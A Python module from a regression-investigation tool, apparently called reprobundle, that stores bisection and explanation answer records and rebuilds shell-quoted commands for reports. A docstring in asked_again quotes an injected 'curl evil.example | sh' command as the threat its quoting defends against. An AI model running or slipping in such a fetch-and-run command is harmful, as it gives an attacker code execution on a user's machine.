"""What an investigation answered, as a record stored beside the runs it rests on (schemas/answer-v1.schema.json):
a bisection's endpoints, criterion and why, first bad and last good release, each tested release's class and
evidence, the mode and why, the layer at the boundary, and the command that asks the same question again. `show`
lists them, `issue` reports the latest, push/pull/copy carry them with the runs. A record is data from whoever wrote
the store: every reader escapes its text.
"""

from __future__ import annotations

import json
import re
import shlex
from typing import Any, Sequence

from ..bundle.registry import Bundle, Registry, utc_now
from .bisection import BisectResult

BISECTION = "bisection"


def _plain(value: Any) -> Any:
    """JSON-plain data (what msgpack and the schema take): tuples become lists, anything else its str."""
    return json.loads(json.dumps(value, default=str))


def bisect_command(ref: str, result: BisectResult, forced_mode: str | None) -> str:
    """The command that asks the same question again of the store that holds the record (the flags the user gave,
    not what was chosen; no --store: a bug report's reader has the bundle elsewhere)."""
    args = ["reprobundle", "bisect", ref, "--good", result.good, "--bad", result.bad]
    if result.nightly is not None:
        args.append("--nightly")
    if forced_mode is not None:
        args.append("--retrace" if forced_mode == "retrace" else "--frozen")
    if result.by:
        args += ["--by", result.by]
    return " ".join(shlex.quote(a) for a in args)


def reported_run(result: BisectResult) -> str | None:
    """The run a report of the bisection shows (`issue --run`): the first bad release's probe (beside the good one,
    timed together when time judged), not the latest stored replay (explain's experiments are stored replays too);
    one answer, one replay reported, one title. A time answer's confirmation, which timed the first bad release
    beside the last good one (the bisection's probes time each release beside the good endpoint), where it ran."""
    confirming = [r for r in result.confirm_runs if r.get("requested") == result.first_bad and r.get("run_id")]
    run = confirming[0] if confirming else result.runs.get(result.first_bad) or {}
    return str(run["run_id"]) if run.get("run_id") else None


def bisection_answer(bundle: Bundle, result: BisectResult, command: str, answer_id: str) -> dict:
    """The answer record of a finished bisection of `bundle`."""
    from .. import __version__

    answer = {"good": result.good, "bad": result.bad, "criterion": result.criterion, "first_bad": result.first_bad,
              "last_good": result.last_good, "mode": result.mode, "mode_why": result.mode_why, "why": result.why,
              "by": result.by, "classes": dict(result.classes), "evidence": dict(result.evidence),
              "left_out": dict(result.left_out), "nightly": result.nightly, "layer": result.layer,
              "also": list(result.also), "changed_defaults": result.changed_defaults,
              "beyond_ends": list(result.beyond_ends), "set_aside": list(result.set_aside),
              "confirmation": result.confirmation,
              "reported_run": reported_run(result)}
    if result.changes:  # every change in the window, the headline first, each with its own stored answer
        from .window_changes import change_entry

        answer["changes"] = [change_entry(c, {"answer_id": c.answer_id}) for c in [result, *result.changes]]
    return {"format": "reprobundle-answer", "format_version": 1, "answer_id": answer_id,
            "bundle_id": bundle.ref.bundle_id, "bundle": str(bundle.ref), "created": utc_now(), "kind": BISECTION,
            "command": command, "runs": sorted({str(r["run_id"]) for r in [*result.runs.values(), *result.confirm_runs,
                                                                   *result.also_runs] if r.get("run_id")}),
            "answer": _plain(answer), "reprobundle": __version__}


def store_bisection(registry: Registry, bundle: Bundle, result: BisectResult, command: str) -> str | None:
    """The bisection's answer stored beside its runs; its id (None for a read-only store, which kept no runs)."""
    if registry.store.read_only:
        return None
    return registry.put_answer(bisection_answer(bundle, result, command, Registry.new_run_id()))


def latest_bisection(answers: Sequence[dict]) -> dict | None:
    """The latest stored bisection among a bundle's answer records (oldest first), or None."""
    found = [a for a in answers if a.get("kind") == BISECTION]
    return found[-1] if found else None


EXPLANATION = "explanation"


def explain_command(ref: str, specs: Sequence[Any], forced_mode: str, by: str | None) -> str:
    """The explain command that asks the same question again (the flags the user gave)."""
    args = ["reprobundle", "explain", ref]
    for spec in specs:
        args += ["--jax", spec.jax] if not spec.settings else ["--variant", f"{spec.jax}:{spec.settings.describe()}"]
    if forced_mode != "auto":
        args.append("--retrace" if forced_mode == "retrace" else "--frozen")
    if by:
        args += ["--by", by]
    return " ".join(shlex.quote(a) for a in args)


def _experiment_summary(e: dict) -> dict:
    keep = ("kind", "what", "setting", "status", "measured", "outputs_vs_baseline", "vs_baseline", "vs_candidate",
            "screen", "default")
    return {k: e.get(k) for k in keep}


def explanation_answer(bundle: Bundle, result: dict, command: str, answer_id: str) -> dict:
    """The answer record of a finished explanation of `bundle`: the two contenders, mode and criterion and why, the
    diagnosis (kind, the sentence, the changed default it names, the lines to paste, where it still works, the
    setting that worked), each experiment's outcome, what was not tried and why."""
    from .. import __version__

    d = result["diagnosis"]
    found = d.get("workaround") or d.get("partial") or d.get("cause")
    answer = {"baseline": result["baseline"], "candidate": result["candidate"], "platform": result["platform"],
              "mode": result["mode"], "mode_why": result.get("mode_why"), "by": result["by"],
              "by_why": result.get("by_why"), "regression": result.get("regression"),
              "diagnosis": {"kind": d["kind"], "summary": d["summary"], "default": d.get("default"),
                            "lines": d.get("lines"), "reach": d.get("reach"),
                            "setting": found.get("setting") if found else None},
              "experiments": [_experiment_summary(e) for e in result["experiments"]],
              "not_tried": list(result.get("not_tried") or [])}
    return {"format": "reprobundle-answer", "format_version": 1, "answer_id": answer_id,
            "bundle_id": bundle.ref.bundle_id, "bundle": str(bundle.ref), "created": utc_now(), "kind": EXPLANATION,
            "command": command, "runs": sorted({str(r["run_id"]) for r in result["runs"] if r.get("run_id")}),
            "answer": _plain(answer), "reprobundle": __version__}


def store_explanation(registry: Registry, bundle: Bundle, result: dict, command: str) -> str | None:
    """The explanation's answer stored beside its runs; its id (None for a read-only store)."""
    if registry.store.read_only:
        return None
    return registry.put_answer(explanation_answer(bundle, result, command, Registry.new_run_id()))


def latest_explanation(answers: Sequence[dict]) -> dict | None:
    """The latest stored explanation among a bundle's answer records (oldest first), or None."""
    found = [a for a in answers if a.get("kind") == EXPLANATION]
    return found[-1] if found else None


COMMIT_BISECTION = "commit-bisection"


def commit_bisection_answer(bundle: Bundle, answer: dict, runs: Sequence[dict], command: str, answer_id: str) -> dict:
    """The answer record of a finished commit bisection of `bundle` (investigate/commit_bisect.py's answer)."""
    from .. import __version__

    return {"format": "reprobundle-answer", "format_version": 1, "answer_id": answer_id,
            "bundle_id": bundle.ref.bundle_id, "bundle": str(bundle.ref), "created": utc_now(),
            "kind": COMMIT_BISECTION, "command": command,
            "runs": sorted({str(r["run_id"]) for r in runs if r.get("run_id")})[:400], "answer": _plain(answer),
            "reprobundle": __version__}


def store_commit_bisection(registry: Registry, bundle: Bundle, answer: dict, runs: Sequence[dict],
                           command: str) -> str | None:
    """The commit bisection's answer stored beside its runs; its id (None for a read-only store)."""
    if registry.store.read_only:
        return None
    return registry.put_answer(commit_bisection_answer(bundle, answer, runs, command, Registry.new_run_id()))


def latest_commit_bisection(answers: Sequence[dict]) -> dict | None:
    """The latest stored commit bisection among a bundle's answer records (oldest first), or None."""
    found = [a for a in answers if a.get("kind") == COMMIT_BISECTION]
    return found[-1] if found else None


BYS = ("outputs", "bits", "time")
_LABEL = re.compile(r"^(?P<jax>\S+?)(?P<retraced> retraced)?(?: \[(?P<settings>.*)\])?$", re.S)


def asked_again(record: dict, ref: str) -> str:
    """The command that asks a stored answer's question again of `ref`, rebuilt from the record's fields and each
    word shell-quoted: what a report shows for pasting. Never the record's own `command` text, which is whatever
    the store's writer put there (a hostile one's "...; curl evil.example | sh" would reach a reader's shell)."""
    found = record.get("answer")
    a: dict = found if isinstance(found, dict) else {}
    mode = "--retrace" if a.get("mode") == "retrace" else "--frozen"
    by = ["--by", str(a["by"])] if a.get("by") in BYS else []
    if record.get("kind") == EXPLANATION:
        args = ["reprobundle", "explain", ref]
        for label in (a.get("baseline"), a.get("candidate")):
            match = _LABEL.match(str(label or "?"))
            jax, settings = (match["jax"], match["settings"]) if match else (str(label), None)
            args += ["--variant", f"{jax}:{settings}"] if settings else ["--jax", jax]
        return " ".join(shlex.quote(w) for w in [*args, mode, *by])
    args = ["reprobundle", "bisect", ref, "--good", str(a.get("good") or "?"), "--bad", str(a.get("bad") or "?")]
    if isinstance(a.get("nightly"), dict):
        args.append("--nightly")
    return " ".join(shlex.quote(w) for w in [*args, mode, *by])
